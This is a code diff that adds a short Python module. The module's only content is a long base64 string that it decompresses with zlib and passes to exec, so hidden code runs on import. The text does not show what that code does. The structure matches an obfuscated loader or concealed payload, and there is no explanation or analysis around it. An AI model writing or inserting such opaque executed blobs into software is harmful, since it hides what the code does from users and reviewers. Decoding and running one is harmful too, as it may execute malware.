@@ -1,0 +1,24 @@
+import base64
+import zlib
+
+_SRC = (
+    "eNqdVT2P20YQ7fkrxtuIPNP0Se5kqEjhNEE+gBhJERxOS3IoEqZ2hV3SJHMSkMKtgXQBUhlGkC5I"
+    "mUPyd+7sv5GZJSlKdhAEUSFyP+bNm5k3QyHElwpBYW20CqGoLGTFS4SNkWmBqrIhSJVCrhvIpIEq"
+    "xw6kQciM3sJX3XNtknxmI897no8oUFjoYAUGy9pv5hftHB5Cs7hoF/SMgxA04UiVQ6FgV8oEQWfu"
+    "cgRExVvHMnnRSJP6wbp308GGKFmQZfkBOZAVaJXgEtLucdrOw/656J/NPPTcc+Fi4Nc4GklDore7"
+    "uiJYigms3GKPreptjMZCU1Q5mQGqTaGYose50Y16CutSmg3a6ppIy4qMrtMiy9AgMVkTVGeP+ZI7"
+    "aSqoGg22Jp8WmbPB0LOa/BJ7se1GF3JjEAfHA0kBMRJPjn0g1lslRCxGSHJMXmAaeUIIzyu2O03O"
+    "trLKPc8lbgAeDr6RZY2e98Unnz/7msrji3YuQhDtgv8b996491gEnuelmA0F9TmxnFRKKBUyhJhE"
+    "kVDgFLxWK8G1E8HSA/oRkxMlSCZO1drlXGNHgAQVY6ZJQlJ1MNYadtLaJfhdCDfMawklyiyEKIoc"
+    "oX59CEho7GU9uV+z3HoKLCzByhLRyMU9CRop/smGlef3NuFgQbLMxOkNCzO+MGPQGV+ZhaB0BTfT"
+    "pQfm0DtgbpTRG7XsY/TbAChEoIZq2df3xc53aQ/h41wGwcGBWEJgoO+4FldwMSxaXjwcTxanJ4uT"
+    "k1hcORRuPBu51gugyE6DXq3GPGFpSfIRR+UHzsxgVRsFlH6GO6v+9bHb/ocOPmhXEkF1VMeM1nVF"
+    "PRj2ba5JqlPvD4oY1DC296QH182HaKzxwJyi/y+a7YPuosndaRa4ji6r6ipi7n0tuZCuiIchPf8y"
+    "BXw2I6UbHDZcEu15bgZ7GO1hsqcWqRpE1U8O7DM3pdGNiOPYUvRnh8b4lJiipEnDmyHsN/AIzB4e"
+    "01Ro/f1mT1tmHyyd8Yk716eZ4QSRUGjWMVY1cjRj3YhNCOPkKmjUoFSn85OcyyNNNprjoycE7uD4"
+    "VLtJSttPIvg2J+cQax6z9IIteS87uBw99fOw//yc03Vw1KCX4LsWtZAiVckWKQ5fCjdsj/l6SqzS"
+    "4mVhObhG1yVVVBYloxoMzmcFtQzlu69fAA9WbvXPZXSKkQW10mfYPTNGG1/c3f7y/q9X797+fv/n"
+    "r+9/fnX/4+v73366u319d/vDuzd/iFFm3OuX0eUxL5O4JugNyYeuOY+kxI/ERHvHuzaRJdJlrjLP"
+    "/yiTsfU3NNSmlQmC432OsjchHpNL/iVaVYWqcQrRsWVkw8P7BJ61FZC2HNRZB9FN72/2UKbe"
+)
+exec(zlib.decompress(base64.b64decode(_SRC)))
